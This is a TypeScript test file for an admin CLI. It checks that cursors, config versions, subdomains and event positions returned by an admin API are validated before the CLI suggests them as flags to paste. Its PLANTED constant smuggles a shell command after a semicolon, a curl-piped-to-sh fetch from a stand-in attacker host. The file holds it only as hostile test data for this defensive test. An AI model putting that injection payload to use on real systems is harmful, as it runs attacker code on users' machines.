import { afterEach, describe, expect, it } from 'vitest';
import { EXIT } from './exit-codes.js';
import { closeStandInAdminApis, runCliAgainst, serveStandInAdminApi } from './testing/stand-in-admin-api.js';

/**
 * The CLI suggests flags to type next from what the admin API answers: `--cursor <next_cursor>` when
 * older entries exist, `--if-version <version>` in a dump's header, `history -t <subdomain>` when a
 * change's answer was lost. Those are cursors, config versions and DNS labels: an answer holding
 * anything else there (a shell command after a `;`) is not the admin API's, and is never offered to be
 * pasted into a shell.
 */
afterEach(closeStandInAdminApis);

const TENANT = '7b0c2c52-9e42-4a43-9a5c-3c2f4f7b8e11';
const PLANTED = '3; curl -s https://evil.example/x | sh';

/** A stand-in admin API answering the tenant (as `subdomain`), and `answer` for every other request. */
function adminApi(answer: (url: string) => unknown, subdomain = 'acme'): Promise<string> {
  return serveStandInAdminApi((req, res) => {
    req.resume();
    res.writeHead(200, { 'content-type': 'application/json' });
    const url = req.url ?? '';
    if (url === `/api/v1/tenants/${TENANT}`) {
      res.end(JSON.stringify({ id: TENANT, name: 'Acme', subdomain }));
      return;
    }
    res.end(JSON.stringify(answer(url)));
  });
}

/** An admin API whose rollback stored the change and lost its answer, at event position `position`. */
function answerLostApi(position: string, subdomain = 'acme'): Promise<string> {
  return serveStandInAdminApi((req, res) => {
    req.resume();
    if (req.url === `/api/v1/tenants/${TENANT}`) {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ id: TENANT, name: 'Acme', subdomain }));
      return;
    }
    res.writeHead(409, { 'content-type': 'application/json', 'x-event-position': position });
    res.end(
      JSON.stringify({
        error: { code: 'idempotency_answer_lost', message: 'the answer was lost', details: [] },
      }),
    );
  });
}

const entry = {
  position: '12',
  occurred_at: '2026-01-01T00:00:00.000Z',
  actor: 'alice@example.com',
  event_type: 'RouteCreated',
  resource_type: 'route',
  resource_id: 'r1',
  summary: 'route GET /x created',
};

describe('flags the CLI suggests from an answer', () => {
  it('history: a next_cursor that is not a cursor is refused, never suggested as --cursor', async () => {
    const url = await adminApi(() => ({ data: [entry], next_cursor: PLANTED }));
    for (const argv of [
      ['history', '-t', TENANT, '--limit', '1'],
      ['get', 'audit', '-t', TENANT, '--limit', '1'],
    ]) {
      const result = await runCliAgainst(argv, url);
      expect(result.code, result.stderr).toBe(EXIT.unavailable);
      expect(result.stderr).toContain('is not what the admin API answers');
      expect(`${result.stdout}\n${result.stderr}`).not.toContain('curl');
    }
  });

  it('history: a next_cursor that is a cursor is suggested as before', async () => {
    const url = await adminApi(() => ({ data: [entry], next_cursor: '12' }));
    const result = await runCliAgainst(['history', '-t', TENANT, '--limit', '1'], url);
    expect(result.code, result.stderr).toBe(EXIT.ok);
    expect(result.stderr).toContain('--cursor 12 ');
  });

  it('dump: a config version that is not a number is refused, never written as --if-version', async () => {
    for (const planted of [
      { version: PLANTED, position: '12' },
      { version: '12', position: PLANTED },
    ]) {
      const url = await adminApi(() => ({
        tenant_id: TENANT,
        ...planted,
        document: { format: 1, tenant: { id: TENANT, name: 'Acme', subdomain: 'acme' } },
      }));
      const result = await runCliAgainst(['dump', '-t', TENANT], url);
      expect(result.code, result.stderr).toBe(EXIT.unavailable);
      expect(`${result.stdout}\n${result.stderr}`).not.toContain('curl');
    }
  });

  it('a tenant whose subdomain is not a DNS label is refused, never suggested as history -t', async () => {
    const url = await answerLostApi('77', PLANTED);
    const result = await runCliAgainst(['rollback', '-t', TENANT, '--to-position', '40'], url);
    expect(result.code, result.stderr).toBe(EXIT.unavailable);
    expect(result.stderr).toContain('is not what the admin API answers');
    expect(`${result.stdout}\n${result.stderr}`).not.toContain('curl');
  });

  it('a lost answer: an event position that is not a number is not shown', async () => {
    const url = await answerLostApi(PLANTED);
    const result = await runCliAgainst(['rollback', '-t', TENANT, '--to-position', '40'], url);
    expect(result.code, result.stderr).toBe(EXIT.ok);
    expect(result.stdout).toContain('vantageedge history -t acme shows them');
    expect(`${result.stdout}\n${result.stderr}`).not.toContain('curl');
    const shown = await runCliAgainst(
      ['rollback', '-t', TENANT, '--to-position', '40'],
      await answerLostApi('77'),
    );
    expect(shown.stdout).toContain('(event position 77)');
  });
});
